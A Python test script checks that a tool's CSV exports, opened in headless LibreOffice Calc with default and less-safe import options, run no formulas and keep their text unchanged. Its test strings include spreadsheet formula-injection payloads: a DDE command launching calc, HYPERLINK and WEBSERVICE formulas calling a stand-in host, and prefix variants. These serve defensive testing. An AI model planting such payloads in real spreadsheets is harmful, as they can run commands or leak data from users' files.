"""What LibreOffice makes of the CSV tables: no formula, and every text as it was.

Needs LibreOffice Calc (`soffice`; a Debian package is `libreoffice-calc`). Texts that begin as
formulas do, with commas, quotation marks, line breaks, any script and long numbers are exported,
opened with the options that its dialog has at first, and again with every one that is less safe:
numbers and dates are looked for in all cells, and formulas run. What stands in the cells then is
compared with what was exported.
"""

import argparse
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from xml.etree import ElementTree as ET

from dateline import Article, Extraction, Finding, Mention, Receipt, Statement
from dateline.export import coded, export
from dateline.export.tables import TABLES
from dateline.export.tables.csv_text import guarded, line

TEXTS = (
    "=1+1", "=SUM(A1:A9)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/"&A1,"click")',
    '=WEBSERVICE("http://x.example/")', "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1",
    "＝1+1", "＋1", "－1", "＠SUM(1)", "|calc", "%0A=1+1", "'=1+1", "''", ";=1+1", '",=1+1',
    '"";=1+1', ' "=1+1"', "a, b", 'He said: "Go, now".', "two\nlines", "two\r\nlines", "a\tb",
    "a;b", "Größe", "Überfall in Łódź", "قُتل ١٤ شخصاً", "שלושה נהרגו", "十四人死亡", "14 मारे गए",
    "🌊 flood", "\u202ereversed", "a\u2028b", "zero\u200bwidth", "1234567890123456789012",
    "007", "12e34", "3/4", "6-8", "10:30", "1.50", "2024-03-09", "1.5", "14", "TRUE", "#REF!",
    "x" * 32_000,
)  # fmt: skip
# Separator, quotation mark, UTF-8, first line; then what is looked for, and whether formulas run.
PLAIN = "CSV:44,34,76,1,,0,false,false,false,false,false,-1,false"
UNSAFE = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"
_TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
_TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
_OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--soffice", default="soffice")
    given = parser.parse_args()
    articles = [*coded(extraction(text) for text in TEXTS)]
    problems = []
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        export(articles, "csv", folder / "tables")
        for options in (PLAIN, UNSAFE):
            for table in ("articles", "statements", "findings"):
                page = opened(given.soffice, folder / "tables" / f"{table}.csv", options)
                rows = [row for article in articles for row in TABLES[table].rows(article)]
                problems += [*compared(table, rows, [*cells(page)])]
    for problem in problems:
        print(problem)
    print(f"{len(TEXTS)} texts in 3 tables, opened in 2 ways: {len(problems)} problems")
    return 1 if problems else 0


def extraction(text: str) -> Extraction:
    article = Article(text=f"{text}.", title=text, source=text)
    said = Statement(id="s1", kind="indirect", content=Mention.at(article.span(0, len(text))))
    started = datetime(2026, 1, 2, tzinfo=UTC)
    return Extraction(
        article=article,
        statements=(said,),
        findings=(Finding(kind="ungrounded", severity="info", message=text, value=text),),
        receipt=Receipt(provider="p", model="m", dateline_version="0", started=started, seconds=0),
    )


def opened(soffice: str, file: Path, options: str) -> Path:
    """The table as LibreOffice has it, as flat XML, in which a formula is told as such."""
    out = file.parent / str(abs(hash(options)))
    profile = f"-env:UserInstallation=file://{file.parent.parent}/profile"
    command = [soffice, "--headless", profile, f"--infilter={options}", "--convert-to", "fods"]
    command += ["--outdir", str(out), str(file)]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    return out / f"{file.stem}.fods"


def cells(page: Path) -> Iterator[list[tuple[str, str | None, str | None]]]:
    """Every row's cells: text, formula, type."""
    for row in ET.parse(page).iter(f"{_TABLE}table-row"):
        found = []
        for cell in row.findall(f"{_TABLE}table-cell"):
            words = "\n".join(map(written, cell.findall(f"{_TEXT}p")))
            kind = cell.get(f"{_OFFICE}value-type")
            one = (words, cell.get(f"{_TABLE}formula"), kind)
            found += [one] * int(cell.get(f"{_TABLE}number-columns-repeated", "1"))
        yield found


def written(paragraph: ET.Element) -> str:
    """A paragraph's text: runs of spaces and tabs are elements of their own."""
    parts = [paragraph.text or ""]
    for inner in paragraph:
        if inner.tag == f"{_TEXT}s":
            parts.append(" " * int(inner.get(f"{_TEXT}c", "1")))
        elif inner.tag == f"{_TEXT}tab":
            parts.append("\t")
        else:
            parts.append(written(inner))
        parts.append(inner.tail or "")
    return "".join(parts)


def compared(name: str, rows: list, found: list) -> Iterator[str]:
    """What is not as it was exported. A cell keeps no carriage return: a line break is one."""
    columns = TABLES[name].columns
    for number, (row, there) in enumerate(zip(rows, found[1:], strict=False)):
        for column, cell, (words, formula, kind) in zip(columns, row, there, strict=False):
            if formula is not None:
                yield f"{name}.{column.name}, row {number}: the formula {formula!r} ran"
            if isinstance(cell, str):
                expected = guarded(cell).replace("\r\n", "\n").replace("\r", "\n")
                if words != expected:
                    there_is = f"{words[:60]!r}, not {expected[:60]!r}"
                    yield f"{name}.{column.name}, row {number}: {there_is}"
            elif cell is not None and column.type == "integer" and kind != "float":
                yield f"{name}.{column.name}, row {number}: {line((cell,))!r} is no number"


if __name__ == "__main__":
    sys.exit(main())
